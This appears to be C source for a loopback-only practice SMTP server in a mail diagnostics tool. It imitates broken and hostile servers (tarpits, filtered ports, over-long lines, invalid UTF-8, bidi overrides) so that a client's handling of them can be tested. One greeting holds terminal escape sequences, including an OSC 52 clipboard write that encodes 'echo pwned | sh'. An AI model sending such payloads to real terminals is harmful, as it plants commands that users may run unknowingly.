    if (!c->dead && c->out.len)
        flush(c);
    if (!c->dead)
        read_input(c);
    update_events(c);
}

/* ---------------------------------------------------------------- accepting */

/* "220 <name>" + tail (raw bytes, CRLF included), then the server works as "ok". */
static void hostile_greeting(conn *c, const char *tail, size_t n)
{
    mxd_sb g = MXD_SB_INIT;
    mxd_sb_printf(&g, "220 %s", host_name(c->srv));
    mxd_sb_append(&g, tail, n);
    c->state = ST_GREETING;
    if (mxd_sb_ok(&g))
        reply_mem(c, g.buf, g.len, AFTER_GREETED);
    else
        conn_close(c, false);
    mxd_sb_free(&g);
    if (!c->dead)
        arm_idle(c);
}

static void start_conn(mxd_labsmtp *s, int fd)
{
    conn *c = calloc(1, sizeof *c);
    if (!c) {
        close(fd);
        return;
    }
    c->srv = s;
    c->fd = fd;
    c->next = s->conns;
    s->conns = c;
    s->active++;
    s->sessions++;
    const char *name = host_name(s);
    switch (s->cfg.behaviour) {
    case MXD_SMTPB_BLACKHOLE:
        c->state = ST_BLACKHOLE;
        c->life_timer = mxd_loop_timer(s->loop, s->lim.blackhole_ms, on_life, c);
        break;
    case MXD_SMTPB_GREET_554:
        c->state = ST_WAIT;
        replyf(c, AFTER_CLOSE, "554 5.3.2 %s no SMTP service here", name);
        break;
    case MXD_SMTPB_GREET_421:
        c->state = ST_WAIT;
        replyf(c, AFTER_CLOSE, "421 4.3.2 %s service not available, try again later", name);
        break;
    case MXD_SMTPB_TARPIT: {
        c->state = ST_GREETING;
        char g[1100];
        int n = snprintf(g, sizeof g, "220 %s ESMTP mxdoctor practice lab\r\n", name);
        c->drip = strdup(g);
        c->drip_len = n > 0 ? (size_t)n : 0;
        if (!c->drip) {
            conn_close(c, false);
            return;
        }
        c->drip_timer = mxd_loop_timer(s->loop, s->latency_ms, on_drip, c);
        arm_idle(c);
        break;
    }
    case MXD_SMTPB_GARBAGE:
        /* Port 25 forwarded to the wrong service: sshd speaks first, too. */
        c->state = ST_GREETING;
        reply_raw(c, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", AFTER_GREETED);
        arm_idle(c);
        break;
    case MXD_SMTPB_HOSTILE_LONGLINE: {
        c->state = ST_GREETING;
        mxd_sb g = MXD_SB_INIT;
        mxd_sb_printf(&g, "220 %s ESMTP ", name);
        for (size_t i = 0; i < LONGLINE_BYTES; i++)
            mxd_sb_putc(&g, (char)('a' + i % 26));
        mxd_sb_puts(&g, "\r\n");
        if (mxd_sb_ok(&g))
            reply_mem(c, g.buf, g.len, AFTER_GREETED);
        else
            conn_close(c, false);
        mxd_sb_free(&g);
        arm_idle(c);
        break;
    }
    case MXD_SMTPB_HOSTILE_ENDLESS:
        c->state = ST_GREETING; /* reads, so a hang-up is seen; never gets past it */
        endless_more(c);
        arm_idle(c);
        break;
    case MXD_SMTPB_HOSTILE_BYTES: {
        static const char g[] = " ESMTP \xff\xfe invalid UTF-8 \xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80"
                                " then a NUL \0 and text after the NUL\r\n";
        hostile_greeting(c, g, sizeof g - 1);
        break;
    }
    case MXD_SMTPB_HOSTILE_ESCAPES: {
        static const char g[] = " ESMTP \x1b[2J\x1b[H\x1b]0;pwned\x07"
                                "\x1b]52;c;ZWNobyBwd25lZCB8IHNo\x07\xc2\x9b" "31m ready\r\n";
        hostile_greeting(c, g, sizeof g - 1);
        break;
    }
    case MXD_SMTPB_HOSTILE_BIDI: {
        static const char g[] = " ESMTP \xe2\x80\xae" "ydaer si revres siht\xe2\x80\xac"
                                " \xe2\x80\xab\xe2\x80\x8f\xe2\x81\xa6isolated\xe2\x81\xa9\r\n";
        hostile_greeting(c, g, sizeof g - 1);
        break;
    }
    case MXD_SMTPB_HOSTILE_NOREAD:
        /* Small receive buffer: whatever the client writes fills it soon. */
        setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &(int){ 1 }, sizeof(int));
        c->state = ST_WAIT;
        replyf(c, AFTER_DEAF, "220 %s ESMTP mxdoctor practice lab", name);
        break;
    default:
        c->state = ST_GREETING;
        replyf(c, AFTER_GREETED, "220 %s ESMTP mxdoctor practice lab", name);
        arm_idle(c);
        break;
    }
    if (c->dead)
        return;
    flush(c);
    update_events(c);
}

static void on_accept(mxd_loop *loop, int lfd, unsigned events, void *arg)
{
    (void)loop;
    (void)events;
    mxd_labsmtp *s = arg;
    for (;;) {
        int fd = mxd_lablisten_accept(lfd);
        if (fd < 0)
            return; /* EAGAIN, or out of descriptors: try again on the next wake-up */
        if (s->active >= s->lim.max_clients) {
            static const char busy[] = "421 4.3.2 too many connections, try again later\r\n";
            ssize_t w = send(fd, busy, sizeof busy - 1, MSG_NOSIGNAL | MSG_DONTWAIT);
            (void)w;
            close(fd);
            continue;
        }
        start_conn(s, fd);
    }
}

/* ---------------------------------------------------------------- filtered */

/* The listener's accept queue: how many connections wait in it, and its limit
 * (for a listening socket Linux reports these in tcpi_unacked/tcpi_sacked). */
static bool accept_queue_full(int lfd)
{
    struct tcp_info ti;
    socklen_t len = sizeof ti;
    memset(&ti, 0, sizeof ti);
    if (getsockopt(lfd, IPPROTO_TCP, TCP_INFO, &ti, &len) < 0 || ti.tcpi_state != TCP_LISTEN)
        return false;
    return ti.tcpi_unacked > ti.tcpi_sacked;
}

/* A firewall that drops SYNs, on loopback: the socket listens with a backlog of
 * one and is never accepted from; two connections of our own fill its accept
 * queue. Linux then drops every further SYN (tcp_conn_request: "accept queue
 * full", counted as ListenOverflows) whatever tcp_abort_on_overflow says (that
 * setting only concerns the last ACK of a handshake), so a client's connect()
 * gets no answer at all and times out — exactly what a filtered port looks like.
 * The kernel's own counters are read back, so a system where this does not
 * hold fails here, loudly, instead of giving a lesson that lies.
 * Returns 0, or an errno value with err set. This waits (at most a second or
 * two, on loopback never in practice): it runs while the lab starts, before
 * any probe. */
static int fill_accept_queue(mxd_labsmtp *s, int lfd, char *err, size_t errlen)
{
    struct sockaddr_in sa;
    socklen_t sl = sizeof sa;
    if (getsockname(lfd, (struct sockaddr *)&sa, &sl) < 0)
        return errno;
    for (int i = 0; i < FILTER_FILL; i++) {
        int f = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        if (f < 0)
            return errno;
        s->filler[i] = f;
        if (connect(f, (struct sockaddr *)&sa, sizeof sa) < 0 && errno != EINPROGRESS)
            return errno;
        struct pollfd p = { f, POLLOUT, 0 };
        int e = 0;
        socklen_t el = sizeof e;
        if (poll(&p, 1, FILTER_WAIT_MS) != 1 || getsockopt(f, SOL_SOCKET, SO_ERROR, &e, &el) < 0 ||
            e) {
            snprintf(err, errlen, "lab SMTP: %s: the firewall stand-in could not reach itself (%s)",
                     s->cfg.addr, e ? strerror(e) : "timed out");
            return e ? e : ETIMEDOUT;
        }
    }
    /* The last handshake ends in the kernel a moment after connect() says so. */
    for (int i = 0; i < FILTER_WAIT_MS / 5 && !accept_queue_full(lfd); i++)
        poll(NULL, 0, 5);
    if (!accept_queue_full(lfd)) {
        snprintf(err, errlen, "lab SMTP: %s: this kernel does not report a full accept queue, "
                              "so the lab cannot play a firewall (behaviour 'filtered') here",
                 s->cfg.addr);
        return ENOTSUP;
    }
    return 0;
}

/* ---------------------------------------------------------------- public */

mxd_labsmtp *mxd_labsmtp_start(mxd_loop *loop, const mxd_scn_smtp *cfg, unsigned port,
                               SSL_CTX *tls, unsigned latency_ms,
                               const mxd_labsmtp_limits *limits, char *err, size_t errlen)
{
    struct sockaddr_in sa;
    if (!mxd_lablisten_addr(cfg->addr, port, &sa)) {
        snprintf(err, errlen, "lab SMTP: %s:%u is not a loopback address and port (127.x.y.z)",
                 cfg->addr, port);
        errno = EINVAL;
        return NULL;
    }
    mxd_labsmtp *s = calloc(1, sizeof *s);
    if (!s) {
        snprintf(err, errlen, "lab SMTP: out of memory");
        errno = ENOMEM;
        return NULL;
    }
    s->loop = loop;
    s->cfg = *cfg;
    s->port = port;
    s->lfd = -1;
    s->latency_ms = latency_ms;
    for (int i = 0; i < FILTER_FILL; i++)
        s->filler[i] = -1;
    if (limits)
        s->lim = *limits;
    if (!s->lim.max_clients)
        s->lim.max_clients = DEFAULT_MAX_CLIENTS;
    if (!s->lim.idle_ms)
        s->lim.idle_ms = DEFAULT_IDLE_MS;
    if (!s->lim.blackhole_ms)
        s->lim.blackhole_ms = DEFAULT_BLACKHOLE_MS;
    if (tls && SSL_CTX_up_ref(tls))
        s->tls = tls;
    if (cfg->behaviour == MXD_SMTPB_REFUSE)
        return s; /* nothing listens: the kernel answers with a reset */

    bool filtered = cfg->behaviour == MXD_SMTPB_FILTERED;
    int fd = mxd_lablisten_open(&sa, filtered ? FILTER_FILL - 1 : 64, &s->port), e = 0;
    if (errlen)
        err[0] = '\0';
    if (fd < 0) {
        e = errno;
    } else {
        s->lfd = fd;
        if (filtered) {
            e = fill_accept_queue(s, fd, err, errlen); /* never accepted from, never watched */
            if (!e)
                return s;
        } else if (mxd_loop_watch(loop, fd, MXD_EV_READ, on_accept, s) == 0) {
            return s;
        } else {
            e = ENOMEM;
        }
    }
    if (!err[0])
        snprintf(err, errlen, "lab SMTP: cannot listen on %s:%u: %s", cfg->addr, port,
                 strerror(e));
    for (int i = 0; i < FILTER_FILL; i++)
        if (s->filler[i] >= 0)
            close(s->filler[i]);
    if (fd >= 0)
        close(fd);
    SSL_CTX_free(s->tls);
    free(s);
    errno = e;
    return NULL;
}

void mxd_labsmtp_stop(mxd_labsmtp *s)
{
    if (!s)
        return;
    if (s->lfd >= 0) {
        mxd_loop_unwatch(s->loop, s->lfd);
        close(s->lfd);
    }
    for (int i = 0; i < FILTER_FILL; i++)
        if (s->filler[i] >= 0)
            close(s->filler[i]);
    for (conn *c = s->conns; c; c = c->next)
        conn_close(c, false);
    mxd_loop_cancel(s->loop, s->reap_timer);
    reap(s->loop, s);
    SSL_CTX_free(s->tls);
    for (size_t i = 0; i < s->ngrey; i++)
        free(s->grey[i]);
    free(s->grey);
    free(s);
}

unsigned mxd_labsmtp_port(const mxd_labsmtp *s)
{
    return s->port;
}

unsigned mxd_labsmtp_sessions(const mxd_labsmtp *s)
{
    return s->sessions;
}

unsigned mxd_labsmtp_active(const mxd_labsmtp *s)
{
    return s->active;
}
